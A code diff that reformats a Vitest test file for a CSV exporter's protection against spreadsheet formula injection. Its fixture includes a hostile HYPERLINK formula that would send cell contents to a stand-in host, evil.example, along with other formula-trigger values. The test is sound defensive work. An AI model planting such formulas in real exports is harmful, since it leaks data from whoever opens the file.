@@ -1,5 +1,5 @@
-import {describe, expect, it} from 'vitest';
 import {parse} from 'csv-parse/sync';
+import {describe, expect, it} from 'vitest';
 import {recordsToCsv} from '../../source/domain/records-csv.js';
 import {protectCell, unprotectCell} from '../../source/domain/spreadsheet-cell.js';
 import {customer} from '../support/fixtures.js';
@@ -37,10 +37,33 @@ describe('CSV cells a spreadsheet would run as a formula', () => {
 });
 
 describe('CSV exports guard every text cell', () => {
-	const hostile = customer({name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', phone: '+44 20 7946 0018', company: '@SUM(1+1)', notes: '-2+3', tags: ['-vip', 'gold'], email: 'plain@example.com'});
+	const hostile = customer({
+		name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+		phone: '+44 20 7946 0018',
+		company: '@SUM(1+1)',
+		notes: '-2+3',
+		tags: ['-vip', 'gold'],
+		email: 'plain@example.com',
+	});
 	const deal = {
-		id: 'opp_csv00001', externalId: '=1+1', customerId: hostile.id, title: '\tTab first', product: '', stage: 'prospecting', amount: 1250.5, currency: 'USD', probability: 0.1,
-		owner: '', expectedCloseAt: null, closedAt: null, lostReason: '', tags: [], notes: '\rCR first', createdAt: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-01T00:00:00.000Z', version: 1,
+		id: 'opp_csv00001',
+		externalId: '=1+1',
+		customerId: hostile.id,
+		title: '\tTab first',
+		product: '',
+		stage: 'prospecting',
+		amount: 1250.5,
+		currency: 'USD',
+		probability: 0.1,
+		owner: '',
+		expectedCloseAt: null,
+		closedAt: null,
+		lostReason: '',
+		tags: [],
+		notes: '\rCR first',
+		createdAt: '2026-01-01T00:00:00.000Z',
+		updatedAt: '2026-01-01T00:00:00.000Z',
+		version: 1,
 	} as const;
 	const rows = (csv: string) => parse(csv, {columns: true}) as Array<Record<string, string>>;
 
@@ -67,7 +90,15 @@ describe('CSV exports guard every text cell', () => {
 
 	it('numbers we write stay numbers; text starting with a tab or CR is quoted', () => {
 		const [row] = rows(recordsToCsv('opportunities', [deal as never]));
-		expect(row).toMatchObject({amount: '1250.5', probability: '0.1', title: "'\tTab first", notes: "'\rCR first", externalId: "'=1+1", closedAt: '', tags: ''});
+		expect(row).toMatchObject({
+			amount: '1250.5',
+			probability: '0.1',
+			title: "'\tTab first",
+			notes: "'\rCR first",
+			externalId: "'=1+1",
+			closedAt: '',
+			tags: '',
+		});
 	});
 
 	it('an empty list exports its header alone', () => {
